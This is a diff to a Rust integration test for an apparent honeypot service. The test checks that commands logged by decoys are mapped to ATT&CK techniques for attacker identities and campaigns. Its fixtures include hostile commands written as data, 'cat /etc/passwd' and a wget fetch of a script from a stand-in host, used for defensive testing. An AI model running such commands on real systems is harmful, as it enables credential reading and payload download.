@@ -23,6 +23,16 @@ const GO_SSH: (&str, &str) = ("SSH-2.0-Go", "curve25519-sha256,ecdh-sha2-nistp25
 const LIBSSH: (&str, &str) = ("SSH-2.0-libssh_0.9.6", "diffie-hellman-group14-sha1");
 
 fn line(at: DateTime<Utc>, app: &str, msgid: &str, fields: &[(&str, &str)]) -> String {
+    line_with(at, app, msgid, fields, None)
+}
+
+/// A command `ip` typed into a decoy's shell, as the decoys log it.
+fn typed(ip: &str, command: &str) -> String {
+    let msg = format!("CMD uid=0 user=root src={ip} pwd=/root cmd={command}");
+    line_with(Utc::now(), "bash", "command", &[("src_ip", ip), ("service", "ssh")], Some(msg))
+}
+
+fn line_with(at: DateTime<Utc>, app: &str, msgid: &str, fields: &[(&str, &str)], msg: Option<String>) -> String {
     svc::logline::format(&Entry {
         severity: Severity::Info,
         timestamp: at,
@@ -30,7 +40,7 @@ fn line(at: DateTime<Utc>, app: &str, msgid: &str, fields: &[(&str, &str)]) -> S
         app_name: app.into(),
         msgid: msgid.into(),
         fields: fields.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
-        msg: None,
+        msg,
     }) + "\n"
 }
 
@@ -59,7 +69,9 @@ async fn addresses_sharing_a_ja3_and_an_ssh_client_are_one_identity_and_a_ja3_al
     let token = admin_token(port).await;
     let lines = attacker("203.0.113.10", GO_SSH, 30)
         + &attacker("198.51.100.20", GO_SSH, 20)
-        + &attacker("192.0.2.30", LIBSSH, 10);
+        + &attacker("192.0.2.30", LIBSSH, 10)
+        + &typed("198.51.100.20", "cat /etc/passwd")
+        + &typed("192.0.2.30", "wget http://203.0.113.99/x.sh");
     std::fs::write(dir.path().join("ingest.log"), lines).unwrap();
 
     eventually("the two addresses are one identity", || async {
@@ -108,6 +120,39 @@ async fn addresses_sharing_a_ja3_and_an_ssh_client_are_one_identity_and_a_ja3_al
     let (_, paged) =
         api_call(port, &token, Method::GET, &format!("/identities/{uuid}/observations?limit=1&offset=1"), None).await;
     assert_eq!(paged["data"][0]["ip"], "198.51.100.20");
+
+    // The techniques of the identity's attackers (the identity page's TTPs), not of the third's.
+    let techniques = |path: String| {
+        let token = token.clone();
+        async move {
+            let (status, rows) = api_call(port, &token, Method::GET, &path, None).await;
+            assert_eq!(status, 200, "{path}: {rows}");
+            // Each row's most precise id: its sub-technique's, else its technique's.
+            let id = |r: &Value| r["sub_technique_id"].as_str().or(r["technique_id"].as_str()).unwrap().to_string();
+            rows.as_array().unwrap().iter().map(id).collect::<Vec<String>>()
+        }
+    };
+    eventually("the commands are folded", || async {
+        techniques(format!("/ttp/by-identity/{uuid}")).await.contains(&"T1087.001".to_string())
+    })
+    .await;
+    let seen = techniques(format!("/ttp/by-identity/{uuid}")).await;
+    assert!(!seen.contains(&"T1105".to_string()), "the third's download is not the identity's: {seen:?}");
+    let (status, layer) =
+        api_call(port, &token, Method::GET, &format!("/ttp/export/navigator/identity/{uuid}"), None).await;
+    let ids: Vec<&str> =
+        layer["techniques"].as_array().unwrap().iter().map(|t| t["techniqueID"].as_str().unwrap()).collect();
+    assert_eq!(status, 200);
+    assert!(ids.contains(&"T1087.001") && !ids.contains(&"T1105"), "the identity's Navigator layer: {ids:?}");
+    let unknown = uuid::Uuid::new_v4();
+    for path in [
+        format!("/ttp/by-identity/{unknown}"),
+        format!("/ttp/by-campaign/{unknown}"),
+        format!("/ttp/export/navigator/identity/{unknown}"),
+    ] {
+        let (status, body) = api_call(port, &token, Method::GET, &path, None).await;
+        assert_eq!(status, 404, "{path}: {body}");
+    }
 
     // Attribution: the linked attacker names its identity; the third is linked to no one.
     let uuid_of = |ip: &'static str| {
@@ -198,6 +243,7 @@ async fn addresses_sharing_a_ja3_and_an_ssh_client_are_one_identity_and_a_ja3_al
     assert_eq!(formed.json()["payload"]["campaign_uuid"], id);
     let (_, first_identity) = api_call(port, &token, Method::GET, &format!("/identities/{uuid}"), None).await;
     assert_eq!(first_identity["campaign_id"], id);
+    assert!(techniques(format!("/ttp/by-campaign/{id}")).await.contains(&"T1087.001".to_string()));
 
     let missing = uuid::Uuid::new_v4();
     let (status, body) = api_call(port, &token, Method::GET, &format!("/campaigns/{missing}"), None).await;
